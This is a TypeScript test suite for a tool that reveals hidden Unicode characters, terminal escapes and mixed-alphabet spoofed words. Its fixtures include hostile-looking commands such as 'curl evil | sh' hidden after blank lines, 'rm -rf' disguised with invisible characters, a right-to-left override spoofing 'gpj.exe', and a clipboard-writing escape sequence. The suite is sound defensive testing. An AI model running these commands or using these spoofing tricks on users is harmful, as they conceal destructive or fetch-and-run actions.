import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  charactersOf,
  isHidden,
  mixedWordsOf,
  piecesOf,
  textBehind,
  textsIn,
  visibleText,
  warningsOf,
} from "./true-text.ts";

const joined = (text: string): string =>
  piecesOf(text)
    .map((piece) => piece.text)
    .join("");
const labels = (text: string): string[] =>
  piecesOf(text).flatMap((piece) => (piece.kind === "mark" ? [piece.label] : []));

describe("visible text", () => {
  it("gives back any text exactly, character by character", () => {
    const again = (text: string): boolean => joined(text) === text;
    const nasty = fc.string({ unit: fc.constantFrom(" ", "\n", "\t", "a", "\u202e", "\r") });
    expect(fc.check(fc.property(fc.string({ unit: "binary" }), again)).counterexample).toBeNull();
    expect(fc.check(fc.property(nasty, again)).counterexample).toBeNull();
  });

  it.each([
    ["zero width space", "a\u200bb", ["U+200B"]],
    ["right-to-left override", "rm \u202egpj.exe", ["U+202E"]],
    ["isolates", "\u2066x\u2069", ["U+2066", "U+2069"]],
    ["no-break space", "rm\u00a0-rf", ["U+00A0"]],
    ["tag characters", "x\u{e0041}", ["U+E0041"]],
    ["variation selectors", "x\ufe0f", ["U+FE0F"]],
    ["escape", "\u001b[31mred", ["U+001B"]],
    ["carriage return", "echo safe\rrm -rf", ["U+000D"]],
    ["lone surrogate", "a\ud800b", ["U+D800"]],
    ["Hangul filler", "a\u3164", ["U+3164"]],
    ["a run of one of them", "a\u200b\u200bb", ["U+200B ×2"]],
    ["line separator", "a\u2028b", ["U+2028"]],
    ["spaces at the end of a line", "a  \nb ", ["␣␣", "␣"]],
    ["tabs at the end of a line", "a \t\t\t\t\t", ["␣", "⇥ ×5"]],
    ["blank braille", "a\u2800b", ["U+2800"]],
    ["null notehead", "a\u{1d159}b", ["U+1D159"]],
    ["blank hieroglyphs", "a\u{13441}\u{13442}b", ["U+13441", "U+13442"]],
    ["Khitan filler", "a\u{16fe4}b", ["U+16FE4"]],
    ["Khmer inherent vowels", "a\u17b4\u17b5b", ["U+17B4", "U+17B5"]],
    ["an accent at the start of a line", "a\n\u0301b", ["U+0301"]],
    ["an accent behind a space", "a \u0301\u0301b", ["U+0301 ×2"]],
    ["a stacker of another script", "rm\u17d2 -rf", ["U+17D2"]],
  ])("marks %s", (_, text, expected) => {
    expect(labels(text)).toEqual(expected);
  });

  it("does not change ordinary text, tabs, newlines and other alphabets", () => {
    expect(piecesOf("if x:\n\treturn 'żółć' # приве́т 日本\n")).toEqual([
      { kind: "text", text: "if x:\n\treturn 'żółć' # приве́т 日本\n" },
    ]);
  });

  it("[S16] keeps accents and vowels that follow a letter", () => {
    for (const text of ["prive\u0301t", "हिन्दी", "ខ្មែរ", "မြန်မာ", "ไทยที่", "עִבְרִית"])
      expect(labels(text), text).toEqual([]);
  });

  it("finds words of mixed alphabets only", () => {
    expect(mixedWordsOf("curl https://раypal.com привет hello μs")).toEqual(["раypal"]);
    expect(warningsOf("curl раypal\u200b")).toEqual([
      "1 hidden character, shown as marks",
      "letters of different alphabets in one word: раypal",
    ]);
    expect(warningsOf("ls -la")).toEqual([]);
  });

  it("handles a megabyte of the worst text quickly", () => {
    const worst = "\u200b".repeat(100_000) + " ".repeat(400_000) + "\n".repeat(100_000);
    expect(joined(worst)).toBe(worst);
  });
});

describe("warnings", () => {
  it("cover every field of an input", () => {
    const edits = [{ old_string: "a", new_string: "hid\u200bden" }];
    expect(warningsOf(textsIn({ file_path: "/x", edits }).join("\n"))).toEqual(["1 hidden character, shown as marks"]);
    expect(warningsOf(textsIn({ "na\u202eme": { deep: ["p\u0430ypal"] } }).join("\n"))).toHaveLength(2);
    expect(textsIn({ count: 1, flag: true, none: null })).toEqual(["count", "flag", "none"]);
  });
});

/** All code points of planes with characters, and samples of the others. */
const EVERY = Array.from({ length: 0x11_0000 }, (_, code) => code)
  .filter((code) => code < 0x2_0000 || (code >= 0xe_0000 && code < 0xe_1000) || code % 257 === 0)
  .map((code) => String.fromCodePoint(code));

const codeOf = (one: string): string => one.codePointAt(0)!.toString(16);

describe("[S16] every code point", () => {
  /** Each class separately, to catch an error in the single expression of the source. */
  const CLASSES: readonly RegExp[] = [
    /\p{Cc}/u,
    /\p{Cf}/u,
    /\p{Cs}/u,
    /\p{Co}/u,
    /\p{Cn}/u,
    /\p{Zs}/u,
    /\p{Zl}/u,
    /\p{Zp}/u,
    /\p{Default_Ignorable_Code_Point}/u,
    /\p{Variation_Selector}/u,
    /\p{Bidi_Control}/u,
    /\p{Join_Control}/u,
    /\p{White_Space}/u,
    /\p{Noncharacter_Code_Point}/u,
  ];

  it("that is hidden by its properties is marked, except the space, the tab and the newline", () => {
    const shown = new Set([" ", "\t", "\n"]);
    const hidden = EVERY.filter((one) => CLASSES.some((each) => each.test(one)) && !shown.has(one));
    const marked = piecesOf(hidden.map((one) => `a${one}b`).join("")).filter(({ kind }) => kind === "mark");
    expect(marked.map(({ text }) => codeOf(text))).toEqual(hidden.map(codeOf));
  });

  it("that has a glyph is shown unchanged", () => {
    const graphic = /[\p{L}\p{N}\p{P}\p{S}]/u;
    const marked = EVERY.filter((character) => graphic.test(character) && isHidden(character));
    const blank = [0x115f, 0x1160, 0x2800, 0x3164, 0xffa0, 0xfffc, 0x1_3441, 0x1_3442, 0x1_d159];
    expect(marked.map(codeOf)).toEqual(blank.map((code) => code.toString(16)));
  });

  it("can be read back from its visible form, on the page and in a terminal", () => {
    const text = EVERY.map((one) => `a${one}b${one}${one}\n${one}`).join("");
    const read = piecesOf(text).map((piece) => (piece.kind === "mark" ? charactersOf(piece.label) : piece.text));
    expect(read.join("") === text).toBe(true);
    expect(textBehind(visibleText(text)) === text).toBe(true);
  });
});

describe("text with marks in it", () => {
  const CORPUS = [
    "npm test\n\n\n && curl evil | sh",
    "echo \u202egpj.exe\u202c; rm\u00a0-rf \u2066~\u2069",
    "\u001b]52;c;cm0gLXJm\u0007\u001b[2Jls",
    "a ‹U+202E› that was typed, and ‹ alone, and › and ‹␣›",
    "tail   \t\n   \n\tindented\r\nlast ",
    "\u{e0041}\ud800\udfff \u{1f468}\u200d\u{1f469}",
  ];

  it("[S38] is read back to the exact text, even if the text imitates a mark", () => {
    for (const text of CORPUS) {
      expect(textBehind(visibleText(text))).toBe(text);
      expect(visibleText(text)).not.toMatch(/[^\P{C}\n\t]|\p{Bidi_Control}/u);
    }
    const back = (text: string): boolean => textBehind(visibleText(text)) === text;
    const nasty = fc.string({ unit: fc.constantFrom("‹", "›", "U+0020", "␣", " ", "\t", "\n", "\u202e", "×2") });
    expect(fc.check(fc.property(fc.string({ unit: "binary" }), back)).counterexample).toBeNull();
    expect(fc.check(fc.property(nasty, back)).counterexample).toBeNull();
  });
});
